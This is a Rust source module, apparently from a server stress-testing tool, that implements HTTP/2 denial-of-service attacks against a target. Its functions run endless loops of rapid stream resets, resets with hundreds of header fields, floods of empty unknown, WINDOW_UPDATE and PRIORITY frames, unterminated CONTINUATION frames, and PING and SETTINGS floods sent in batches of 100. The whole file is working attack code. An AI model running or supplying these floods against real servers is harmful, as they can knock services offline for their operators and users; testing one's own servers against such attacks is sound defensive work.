//! Attacks by frames that carry no request.

use std::io;
use std::time::Duration;

use super::connection::{Connection, Target};
use super::streams;
use super::wire::{self, FRAME_MAX, kind};

/// Frames in one write.
const BATCH: usize = 100;
/// Fields of one request.
const FIELDS: usize = 440;

/// Streams that are reset as soon as they are opened. What the server says is read, so that it goes on.
pub(super) async fn rapid_reset(target: &Target) -> io::Result<()> {
    let mut connection = Connection::open(target, &[]).await?;
    let check = wire::headers(streams::CHECK, None, &[]);
    resets(&mut connection, &check, None).await
}

/// The same with whole calls of a caller.
pub(super) async fn caller_resets(target: &Target) -> io::Result<()> {
    let mut connection = Connection::open(target, &[]).await?;
    let head = wire::headers(streams::GET_SUBJECT, Some(&target.reader), &[]);
    resets(&mut connection, &head, Some(&wire::message(streams::ALICE))).await
}

/// The same with hundreds of fields, each of which takes one byte to send.
pub(super) async fn field_resets(target: &Target) -> io::Result<()> {
    let mut connection = Connection::open(target, &[]).await?;
    let mut head = wire::headers(streams::CHECK, None, &[]);
    wire::indexed(&mut head, "x", "y");
    connection.call(&head, &wire::message(&[])).await?;
    let mut again = wire::headers(streams::CHECK, None, &[]);
    again.resize(again.len() + FIELDS, wire::NEWEST);
    resets(&mut connection, &again, None).await
}

async fn resets(connection: &mut Connection, head: &[u8], message: Option<&[u8]>) -> io::Result<()> {
    loop {
        connection.give_up(head, message, BATCH).await?;
        connection.attend(Duration::ZERO).await?;
    }
}

/// The smallest frames that mean nothing: of an unknown type, more window for the connection, and priorities.
pub(super) async fn empty_frames(target: &Target, number: usize) -> io::Result<()> {
    let mut connection = Connection::open(target, &[]).await?;
    let frame = match number % 3 {
        0 => wire::frame(kind::UNKNOWN, 0, 0, &[]),
        1 => wire::frame(kind::WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1]),
        _ => wire::frame(kind::PRIORITY, 0, 1, &[0; 5]),
    };
    let batch = frame.repeat(BATCH);
    loop {
        connection.write(&batch).await?;
    }
}

/// The headers of one request, which go on without an end.
pub(super) async fn continuations(target: &Target) -> io::Result<()> {
    let mut connection = Connection::open(target, &[]).await?;
    let first = wire::headers(streams::CHECK, None, &[]);
    connection.write(&wire::frame(kind::HEADERS, 0, 1, &first)).await?;
    let mut more = Vec::new();
    while more.len() + 150 < FRAME_MAX {
        wire::literal(&mut more, "x-more", &"x".repeat(100));
    }
    let more = wire::frame(kind::CONTINUATION, 0, 1, &more);
    loop {
        connection.write(&more).await?;
        connection.attend(Duration::ZERO).await?;
    }
}

/// PINGs; the answers are not read.
pub(super) async fn pings(target: &Target) -> io::Result<()> {
    let mut connection = Connection::open(target, &[]).await?;
    let batch = wire::frame(kind::PING, 0, 0, b"pingping").repeat(BATCH);
    loop {
        connection.write(&batch).await?;
    }
}

/// Settings that change nothing; the answers are not read.
pub(super) async fn settings(target: &Target) -> io::Result<()> {
    let mut connection = Connection::open(target, &[]).await?;
    let batch = wire::settings(&[(wire::setting::INITIAL_WINDOW_SIZE, 65_535)]).repeat(BATCH);
    loop {
        connection.write(&batch).await?;
    }
}
